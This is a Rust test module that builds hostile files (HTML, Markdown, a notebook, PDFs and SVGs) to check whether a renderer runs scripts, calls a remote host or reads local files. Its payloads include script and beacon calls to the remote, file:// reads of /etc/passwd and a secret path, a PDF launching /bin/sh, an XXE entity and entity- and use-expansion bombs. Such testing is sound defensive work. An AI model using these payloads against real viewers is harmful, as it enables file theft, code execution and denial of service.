//! What could run something, or load something from elsewhere.

use std::path::Path;

use serde_json::json;

use super::{HostileFile, bytes};
use crate::{pdf, pdf_stream};

pub(super) fn all(remote: &str, secret: &Path) -> Vec<HostileFile> {
    let page = page(remote, secret);
    vec![
        bytes("page.html", "text", format!("<!doctype html><title>t</title>{page}")),
        bytes("notes.md", "text", markdown(remote, &page)),
        bytes("notebook.ipynb", "notebook", notebook(remote, &page)),
        bytes("report.pdf", "pdf", report(remote)),
        bytes("broken.pdf", "pdf", "%PDF-1.7\n1 0 obj\n<</Length 99999999999>>stream\n"),
        bytes("drawing.svg", "image", drawing(remote, secret)),
        bytes("entities.svg", "text", entities()),
        bytes("filters.svg", "image", filters()),
        bytes("uses.svg", "image", uses()),
        bytes("groups.svg", "image", svg(&("<g>".repeat(100_000) + &"</g>".repeat(100_000)))),
        bytes("vast.svg", "image", "<svg xmlns='http://www.w3.org/2000/svg' width='1e9' height='1e9'/>"),
    ]
}

/// HTML that tries everything.
fn page(remote: &str, secret: &Path) -> String {
    let http = format!("http://{remote}");
    let secret = secret.display();
    format!(
        "<base href='{http}/'><meta http-equiv=refresh content='0; url={http}/refresh'>\
         <link rel=preconnect href='{http}'><link rel=prefetch href='{http}/prefetch'>\
         <link rel=dns-prefetch href='//{remote}'><link rel=stylesheet href='{http}/style.css'>\
         <link rel=preload as=image href='{http}/preload'><link rel=manifest href='{http}/manifest'>\
         <style>@import '{http}/import.css'; body {{ background: url({http}/background) }}\
         @font-face {{ font-family: f; src: url({http}/font) }} p {{ font-family: f }}\
         :root {{ position: fixed; inset: 0; z-index: 2147483647 }}</style>\
         <script>top.ran = true; fetch('{http}/fetch'); new WebSocket('ws://{remote}/socket');\
         navigator.sendBeacon('{http}/beacon'); new EventSource('{http}/events');\
         open('{http}/popup'); top.location = '{http}/top'; new Worker('{http}/worker.js')</script>\
         <script type=module src='{http}/module.js'></script><script src='https://{remote}/script.js'></script>\
         <img src='{http}/image' srcset='{http}/srcset 2x' onerror='top.ran = true'><img src='//{remote}/bare'>\
         <img src='file:///etc/passwd'><img src='file://{secret}'><iframe src='file://{secret}'></iframe>\
         <iframe src='{http}/frame'></iframe><iframe srcdoc='&lt;img src={http}/srcdoc&gt;'></iframe>\
         <object data='{http}/object'></object><embed src='{http}/embed'>\
         <video src='{http}/video' poster='{http}/poster' autoplay></video><audio src='{http}/audio' autoplay></audio>\
         <p style='background: url({http}/inline)' onclick='top.ran = true'>A page</p>\
         <a href='{http}/link' ping='{http}/ping' target=_top>link</a> <a href='javascript:top.ran = true'>script</a>\
         <a href='data:text/html,<script>top.ran = true</script>'>data</a>\
         <form action='{http}/form' method=post><input name=a autofocus onfocus='top.ran = true'>\
         <button id=send formaction='{http}/button'>Send</button></form>\
         <svg><script>top.ran = true</script><image href='{http}/svg-image' width=9 height=9 />\
         <use href='{http}/svg-use#a'/><animate onbegin='top.ran = true' attributeName=x dur=1s /></svg>\
         <math><maction actiontype='statusline' xlink:href='{http}/math'>m</maction></math>"
    )
}

fn markdown(remote: &str, page: &str) -> String {
    format!(
        "# Notes\n\n![image](http://{remote}/markdown) ![secure](https://{remote}/markdown) ![bare](//{remote}/bare)\n\n\
         [link](http://{remote}/link) [script](javascript:top.ran=true) <http://{remote}/auto> [ref]\n\n\
         [ref]: http://{remote}/reference\n\n{page}\n\n{}x\n",
        "> ".repeat(5000)
    )
}

fn notebook(remote: &str, page: &str) -> Vec<u8> {
    let html = json!([{"output_type": "display_data", "metadata": {}, "data": {"text/html": page}}, {
        "output_type": "display_data",
        "metadata": {},
        "data": {"application/javascript": "top.ran = true", "image/svg+xml": svg("<script>top.ran = true</script>")},
    }, {
        "output_type": "display_data",
        "metadata": {},
        "data": {"image/png": format!("x\" onerror=\"top.ran=true\" src=\"http://{remote}/output")},
    }]);
    let cells = json!([
        {"cell_type": "markdown", "metadata": {}, "source": markdown(remote, page),
         "attachments": {"a.png": {"image/png": "AAAA"}}},
        {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": "import os", "outputs": html},
        {"cell_type": "raw", "metadata": {}, "source": page},
    ]);
    json!({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).to_string().into_bytes()
}

/// A PDF whose opening, page, link and form would do something.
fn report(remote: &str) -> Vec<u8> {
    let uri = format!("<</S/URI/URI(http://{remote}/uri)>>");
    let script = format!("<</S/JavaScript/JS(app.launchURL\\('http://{remote}/script'\\); top.ran = true)>>");
    let catalog = format!(
        "<</Type/Catalog/Pages 2 0 R/OpenAction{script}/AA<</WC{uri}>>/Names<</JavaScript<</Names[(a){script}]>>>>\
         /AcroForm<</Fields[]/XFA(<script>top.ran = true</script>)>>>>"
    );
    let page = format!(
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/AA<</O{uri}>>\
         /Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>\
         /Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A{uri}>>\
         <</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/Launch/F(/bin/sh)>>>>]>>"
    );
    pdf(&[
        catalog.into_bytes(),
        b"<</Type/Pages/Kids[3 0 R]/Count 1000000>>".to_vec(),
        page.into_bytes(),
        pdf_stream("", b"BT /F 20 Tf 20 150 Td (A report) Tj ET"),
    ])
}

fn svg(inside: &str) -> String {
    format!(
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' \
         width='300' height='300'>{inside}</svg>"
    )
}

fn drawing(remote: &str, secret: &Path) -> String {
    let http = format!("http://{remote}");
    let secret = secret.display();
    let drawing = svg(&format!(
        "<script>top.ran = true; fetch('{http}/script')</script><script href='{http}/script.js'/>\
         <style>@import url({http}/import.css); rect {{ fill: url({http}/fill#a) }}\
         @font-face {{ font-family: f; src: url({http}/font) }}</style>\
         <rect width='9' height='9' onload='top.ran = true'/><image href='{http}/image' width='9' height='9'/>\
         <image xlink:href='//{remote}/bare' width='9' height='9'/><image href='/etc/passwd' width='9' height='9'/>\
         <image href='file://{secret}' width='9' height='9'/><use href='{http}/use#a'/><feImage href='{http}/fe'/>\
         <foreignObject width='99' height='99'><img xmlns='http://www.w3.org/1999/xhtml' src='{http}/foreign'/>\
         </foreignObject><a href='{http}/link'><text y='50'>A drawing</text></a>"
    ));
    format!("<?xml-stylesheet href='{http}/sheet.css'?>{drawing}")
}

/// Each entity is the one before ten times; one is a file.
fn entities() -> String {
    let entities: String =
        (1..12).map(|n| format!("<!ENTITY e{n} '{}'>", format!("&e{};", n - 1).repeat(10))).collect();
    let types =
        format!("<!DOCTYPE svg [<!ENTITY e0 'x'><!ENTITY file SYSTEM 'file:///etc/passwd'>{entities}]>");
    types + &svg("<text y='50'>&e11;&file;</text>")
}

fn filters() -> String {
    let filter = "<filter id='f' x='0' y='0' width='3000' height='3000'>\
        <feTurbulence baseFrequency='0.01' numOctaves='9999'/></filter>";
    svg(&(filter.to_string() + &"<rect width='300' height='300' filter='url(#f)'/>".repeat(50)))
}

/// Each group uses the one before ten times.
fn uses() -> String {
    let uses = |n: usize| format!("<g id='g{n}'>{}</g>", format!("<use href='#g{}'/>", n - 1).repeat(10));
    svg(&format!(
        "<defs><rect id='g0' width='9' height='9'/>{}</defs><use href='#g9'/>",
        (1..10).map(uses).collect::<String>()
    ))
}
